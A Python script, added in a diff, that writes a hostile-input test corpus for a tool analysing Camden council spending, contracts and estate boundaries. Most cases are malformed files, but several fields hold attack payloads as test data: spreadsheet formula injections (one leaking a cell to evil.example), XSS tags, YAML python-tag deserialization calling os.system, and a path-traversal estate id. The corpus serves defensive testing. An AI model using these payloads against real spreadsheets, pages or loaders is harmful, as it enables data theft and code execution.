@@ -1,0 +1,348 @@
+"""Write the hostile-input corpus in this folder (deterministic; the outputs are committed).
+
+Run ``.venv/bin/python tests/data/bad/make_corpus.py`` after changing a case, then update
+``manifest.yaml`` and ``docs/HOSTILE_INPUTS.md``. Every file is small; the big cases (an
+enormous line, a line of 200,000 fields, a million rows) are generated in a temporary folder
+by ``tests/test_hostile_inputs.py`` itself.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+from pathlib import Path
+
+import geopandas as gpd
+from openpyxl import Workbook
+from shapely import GeometryCollection, MultiPoint, Point, Polygon, box
+
+HERE = Path(__file__).resolve().parent
+URI = "http://opendatacommunities.org/id/london-borough-council/camden"
+CAMDEN_HEADER = [
+    "Organisation Label", "Organisation URI", "Payment Date", "Payment Month", "Payment Year",
+    "Financial Year", "Beneficiary Name", "Purpose", "Organisational Unit", "Amount GBP",
+    "Irrecoverable VAT Amount GBP", "Latest Financial Year", "Latest Year", "Latest Month",
+    "Unique Identifier",
+]
+PURPOSE = "Estate cleaning"  # the shipped catalogue classifies it (caretaking)
+ORG_UNIT = "Housing"
+
+
+def row(uid: str, amount: str, *, date: str = "01/06/2024", payee: str = "ACME CLEANING LTD",
+        purpose: str = PURPOSE) -> list[str]:
+    """One Camden-format row (15 fields)."""
+    return ["London Borough of Camden", URI, date, "Jun", "2024", "2024/25", payee, purpose,
+            ORG_UNIT, amount, "0", "2024/25", "2024", "Jun", uid]
+
+
+def csv_text(rows: list[list[str]], delimiter: str = ",", header: list[str] | None = None,
+             newline: str = "\n") -> str:
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
+    writer.writerow(header or CAMDEN_HEADER)
+    writer.writerows(rows)
+    return out.getvalue()
+
+
+def write(name: str, data: str | bytes, encoding: str = "utf-8") -> None:
+    path = HERE / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
+
+
+def good(prefix: str, n: int = 3) -> list[list[str]]:
+    """``n`` valid rows of 100.00, 200.00, ... with ids ``<prefix>-1`` ..."""
+    return [row(f"{prefix}-{i}", f"{i * 100}.00") for i in range(1, n + 1)]
+
+
+# -- spend ---------------------------------------------------------------------------------------
+
+
+def spend_files() -> None:
+    text = csv_text(good("trunc", 3) + [row("trunc-4", "400.00")])
+    write("spend/truncated.csv", text[: text.rindex("Housing") + 4])  # cut inside the 9th field
+    quoted = csv_text(good("trq", 2) + [row("trq-3", "300.00", payee="SMITH, JONES & CO")])
+    write("spend/truncated_in_quotes.csv", quoted[: quoted.rindex("JONES")])
+    write("spend/semicolons.csv", csv_text(good("semi", 3), delimiter=";"))
+    write("spend/tabs.csv", csv_text(good("tab", 3), delimiter="\t"))
+    mixed = csv_text([]) + csv_text(good("mix", 3), delimiter=";").split("\n", 1)[1]
+    write("spend/mixed_delimiters.csv", mixed)
+    spend_file_kinds()
+    spend_encodings()
+    spend_headers()
+    spend_values()
+
+
+def spend_file_kinds() -> None:
+    wb = Workbook()
+    ws = wb.active
+    ws.append(CAMDEN_HEADER)
+    ws.append(row("xl-1", "100.00"))
+    buf = io.BytesIO()
+    wb.save(buf)
+    write("spend/excel_renamed.csv", buf.getvalue())
+    write("spend/old_excel_renamed.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
+    write("spend/gzipped.csv", gzip.compress(csv_text(good("gz")).encode(), mtime=0))
+    write("spend/pdf_renamed.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n%%EOF\n")
+    write("spend/empty.csv", b"")
+    write("spend/html_error_page.csv",
+          "<!DOCTYPE html>\n<html><head><title>Session expired</title></head>\n"
+          "<body><p>Please log in again.</p></body></html>\n")
+    noise = bytes((i * 73 + 41) % 256 for i in range(2048))  # fixed "random" bytes
+    write("spend/binary_noise.csv", noise)
+
+
+def spend_encodings() -> None:
+    def text(prefix: str) -> str:  # ids unique per file: the files are also loaded together
+        return csv_text([row(f"{prefix}-1", "£1,234.56", payee="Café Rouge £ Ltd"),
+                         row(f"{prefix}-2", "99.99")])
+
+    write("spend/utf8_bom.csv", b"\xef\xbb\xbf" + text("u8bom").encode("utf-8"))
+    write("spend/utf16le_bom.csv", text("u16le").encode("utf-16"))  # Python writes a LE BOM
+    write("spend/utf16be_bom.csv", b"\xfe\xff" + text("u16be").encode("utf-16-be"))
+    write("spend/utf16le_no_bom.csv", text("u16nb").encode("utf-16-le"))
+    write("spend/latin1.csv", text("lat1").encode("latin-1"))
+    cp = csv_text([row("cp-1", "£10.00", payee="“Smart” Quotes – €uro Ltd"), row("cp-2", "5.00")])
+    write("spend/cp1252.csv", cp.encode("cp1252"))
+    write("spend/cr_line_endings.csv", csv_text(good("cr", 3), newline="\r"))
+
+
+def spend_headers() -> None:
+    missing = [h for h in CAMDEN_HEADER if h != "Amount GBP"]
+    write("spend/missing_column.csv",
+          csv_text([r[:9] + r[10:] for r in good("miss", 2)], header=missing))
+    dup = [*CAMDEN_HEADER, "Amount GBP"]
+    write("spend/duplicated_column.csv", csv_text([r + ["999.00"] for r in good("dcol", 2)],
+                                                  header=dup))
+    loose = [" ".join(h.upper().split()).replace(" ", "  ") for h in CAMDEN_HEADER]
+    write("spend/header_case_and_spaces.csv", csv_text(good("loose", 2), header=loose))
+    write("spend/preamble.csv",
+          "London Borough of Camden\nPayments over £500\n\n" + csv_text(good("pre", 2)))
+    write("spend/markup_in_header.csv",
+          "Date,[/bold],[link=http://evil.example]x[/link],\x1b[31mred\x1b[0m,\x07bell\n1,2,3,4,5\n")
+
+
+def spend_values() -> None:
+    amounts = ["£1,234.56", "(1,234.56)", "1.234,56", "", "twelve pounds", "-£1,000",
+               "1,23", "12.345", "1e5", "NaN", "１２３", "£"]
+    write("spend/amounts.csv",
+          csv_text([row(f"amt-{i}", a) for i, a in enumerate(amounts, start=1)]))
+    dates = ["31/02/2024", "29/02/2023", "29/02/2024", "00/01/2024", "1/13/2024", "01/01/0024",
+             "2024-06-01", "", "31/12/9999", "01/06/2024 10:00"]
+    write("spend/dates.csv",
+          csv_text([row(f"date-{i}", "10.00", date=d) for i, d in enumerate(dates, start=1)]))
+    write("spend/duplicate_ids.csv", csv_text([
+        row("dup-1", "10.00"), row("dup-2", "20.00"), row("dup-1", "30.00"),
+        row("dup-1", "40.00"), row("DUP-2", "50.00"),
+    ]))
+    payees = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "<script>alert('payee')</script>",
+        '<img src=x onerror="window.__placespend_xss=1">',
+        "[/bold] Rich [link=http://evil.example]markup[/link]",
+        "Bell\x07and\x1b[31mANSI\x1b[0m Ltd",
+    ]
+    hostile = [row(f"hp-{i}", "1000.00", payee=p) for i, p in enumerate(payees, start=1)]
+    write("spend/hostile_payees.csv", csv_text(hostile, newline="\r\n"))  # quotes the "\r"
+    write("spend/unclosed_quote.csv",
+          csv_text(good("uq", 1)) + 'London Borough of Camden,x,01/06/2024,Jun,2024,2024/25,'
+          '"ACME, unclosed,Estate cleaning,Housing,20.00,0,2024/25,2024,Jun,uq-2\n'
+          + csv_text(good("uq-after", 2)).split("\n", 1)[1])
+    write("spend/blank_lines_and_totals.csv",
+          csv_text(good("tot", 2)).replace("\n", "\n\n", 1)
+          + ",,,,,,,Total,,300.00,,,,,\n")
+
+
+# -- column mappings ---------------------------------------------------------------------------
+
+
+def mapping_files() -> None:
+    write("mappings/python_tag.yaml",
+          "name: !!python/object/apply:os.system ['touch /tmp/placespend_pwned']\n"
+          "date: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n")
+    write("mappings/unknown_key.yaml",
+          "name: typo\ndate: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n"
+          "ammount_column: Amount GBP\n")
+    write("mappings/column_not_in_file.yaml",
+          "name: wrong\ndate: Date Paid\namount: Amount GBP\npayee: Beneficiary Name\n")
+
+
+# -- contracts register ---------------------------------------------------------------------------
+
+CONTRACT_HEADER = ["contract_id", "title", "supplier", "service", "purpose", "scope_type",
+                   "scope_code", "annual_value_gbp", "start_date", "end_date"]
+
+
+def contract_files() -> None:
+    write("contracts/unknown_ward.csv", csv_text(
+        [["C1", "Cleaning lot", "ACME CLEANING LTD", "caretaking", "", "ward", "E05999999",
+          "1000", "2024-04-01", "2025-03-31"]], header=CONTRACT_HEADER))
+    write("contracts/bad_rows.csv", csv_text(
+        [["C1", "Lot", "ACME", "caretaking", "", "borough", "", "-5", "2024-04-01", "2025-03-31"],
+         ["C1", "Lot", "", "caretaking", "", "estate", "", "10", "31/02/2024", "2023-01-01"],
+         ["C2", "Lot", "ACME", "", "", "region", "", "£1.234,56", "2024-04-01", ""]],
+        header=CONTRACT_HEADER))
+
+
+# -- catalogue -------------------------------------------------------------------------------------
+
+CATALOGUE = """\
+outcomes:
+  - id: empowered
+    label: Residents are empowered
+services:
+  - id: caretaking
+    name: Caretaking
+    directorate: Housing
+    outcomes: [empowered]
+    default_scope: estate
+    key: {key}
+    alt_keys: [area]
+    delegable: true
+    place_based: true
+    description: Follows homes.{extra_field}
+  - id: levies
+    name: Levies
+    directorate: Finance
+    outcomes: [empowered]
+    default_scope: borough
+    key: area
+    delegable: false
+    place_based: false
+    description: Paid to other bodies.
+rules:
+  - service: caretaking
+    purpose: caretak|cleaning
+  - service: levies
+    purpose: ^levies paid$
+links:
+  - from: caretaking
+    to: {link_to}
+    relation: reinforces
+    outcome: empowered
+    rationale: Clean blocks.
+"""
+
+
+def catalogue_files() -> None:
+    base = {"key": "households", "extra_field": "", "link_to": "levies"}
+    write("catalogue/unknown_key.yaml", CATALOGUE.format(**{**base, "key": "househods"}))
+    write("catalogue/unknown_field.yaml",
+          CATALOGUE.format(**{**base, "extra_field": "\n    budget_gbp: 1000"}))
+    write("catalogue/missing_field.yaml",
+          CATALOGUE.format(**base).replace("    directorate: Housing\n", "", 1))
+    write("catalogue/link_to_missing_service.yaml",
+          CATALOGUE.format(**{**base, "link_to": "street_lighting"}))
+    write("catalogue/python_tag.yaml",
+          "!!python/object/apply:os.system ['touch /tmp/placespend_pwned']\n")
+    write("catalogue/not_yaml.yaml", "outcomes: [\n  - id: {oops\n")
+
+
+# -- boundaries ------------------------------------------------------------------------------------
+
+# 100 m squares centred on points inside shipped Camden estates (EPSG:27700).
+CENTRES = [(531158, 181913), (530427, 182813), (529843, 183235)]
+OUTSIDE_CAMDEN = (383000, 398000)  # Manchester
+
+
+def square(x: float, y: float, half: float = 50) -> Polygon:
+    return box(x - half, y - half, x + half, y + half)
+
+
+def estates(rows: list[dict], crs: str | None = "EPSG:27700") -> gpd.GeoDataFrame:
+    return gpd.GeoDataFrame(rows, geometry="geometry", crs=crs)
+
+
+def geojson(name: str, frame: gpd.GeoDataFrame) -> None:
+    """Write ``frame`` (EPSG:27700) as RFC 7946 GeoJSON (WGS84, 6 decimals)."""
+    data = json.loads(frame.to_crs("EPSG:4326").to_json(drop_id=True))
+    write(name, json.dumps(_rounded(data), indent=1) + "\n")
+
+
+def _rounded(obj):
+    if isinstance(obj, float):
+        return round(obj, 6)
+    if isinstance(obj, list):
+        return [_rounded(v) for v in obj]
+    if isinstance(obj, dict):
+        return {k: _rounded(v) for k, v in obj.items()}
+    return obj
+
+
+def boundary_files() -> None:
+    a, b, c = (square(*p) for p in CENTRES)
+    hostile = estates([
+        {"estate_id": "../../escape", "geometry": a,
+         "name": '=HYPERLINK("http://evil.example","Click me") Estate'},
+        {"estate_id": "xss-1", "geometry": b,
+         "name": '<img src=x onerror="window.__placespend_xss=1"><script>alert(1)</script>'},
+        {"estate_id": "md-1", "geometry": c,
+         "name": "[Click](http://evil.example) ![x](http://evil.example/t.png) **bold** [/red]"},
+    ])
+    geojson("boundaries/estates_hostile_names.geojson", hostile)
+    one = {"estate_id": "E1", "name": "One"}
+    bowtie = Polygon([(CENTRES[0][0] - 50, CENTRES[0][1] - 50),
+                      (CENTRES[0][0] + 50, CENTRES[0][1] + 50),
+                      (CENTRES[0][0] + 50, CENTRES[0][1] - 50),
+                      (CENTRES[0][0] - 50, CENTRES[0][1] + 50)])
+    geojson("boundaries/estates_self_intersecting.geojson",
+            estates([{**one, "geometry": bowtie}, {"estate_id": "E2", "name": "Two",
+                                                   "geometry": b}]))
+    geojson("boundaries/estates_empty_geometry.geojson",
+            estates([{**one, "geometry": Polygon()}, {"estate_id": "E2", "name": "Two",
+                                                      "geometry": b}]))
+    geojson("boundaries/estates_points.geojson",
+            estates([{**one, "geometry": Point(CENTRES[0])},
+                     {"estate_id": "E2", "name": "Two", "geometry": MultiPoint([CENTRES[1]])}]))
+    geojson("boundaries/estates_geometry_collection.geojson",
+            estates([{**one, "geometry": GeometryCollection([a, Point(CENTRES[0])])}]))
+    swapped = estates([{**one, "geometry": a}, {"estate_id": "E2", "name": "Two",
+                                                "geometry": b}]).to_crs("EPSG:4326")
+    data = json.loads(swapped.to_json(drop_id=True))
+    for feature in data["features"]:
+        ring = feature["geometry"]["coordinates"][0]
+        feature["geometry"]["coordinates"][0] = [[round(y, 6), round(x, 6)] for x, y in ring]
+    write("boundaries/estates_lat_lon_swapped.geojson", json.dumps(data, indent=1) + "\n")
+    metres = json.loads(estates([{**one, "geometry": a}]).to_json(drop_id=True))
+    del metres["crs"]  # RFC 7946: GeoJSON without "crs" is longitude/latitude
+    write("boundaries/estates_metres_in_geojson.geojson", json.dumps(metres, indent=1) + "\n")
+    declared = json.loads(estates([{**one, "geometry": a}]).to_crs("EPSG:4326")
+                          .to_json(drop_id=True))
+    declared["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::27700"}}
+    write("boundaries/estates_declared_bng_but_degrees.geojson",
+          json.dumps(_rounded(declared), indent=1) + "\n")
+    no_crs = estates([{**one, "geometry": a}], crs=None)
+    no_crs.to_parquet(HERE / "boundaries/estates_no_crs.parquet")
+    geojson("boundaries/estates_overlapping.geojson",
+            estates([{**one, "geometry": a},
+                     {"estate_id": "E2", "name": "Two",
+                      "geometry": square(CENTRES[0][0] + 30, CENTRES[0][1])}]))
+    geojson("boundaries/estates_outside_every_ward.geojson",
+            estates([{**one, "geometry": a},
+                     {"estate_id": "E2", "name": "Far away", "geometry": square(*OUTSIDE_CAMDEN)}]))
+    geojson("boundaries/estates_duplicate_ids.geojson",
+            estates([{**one, "geometry": a}, {**one, "name": "Again", "geometry": b}]))
+    geojson("boundaries/estates_missing_columns.geojson",
+            estates([{"id": "E1", "geometry": a}]))
+    write("boundaries/estates_not_vector.geojson", csv_text(good("nv", 1)))
+    write("boundaries/estates_no_features.geojson",
+          '{"type": "FeatureCollection", "features": []}\n')
+
+
+def main() -> None:
+    spend_files()
+    mapping_files()
+    contract_files()
+    catalogue_files()
+    boundary_files()
+
+
+if __name__ == "__main__":
+    main()
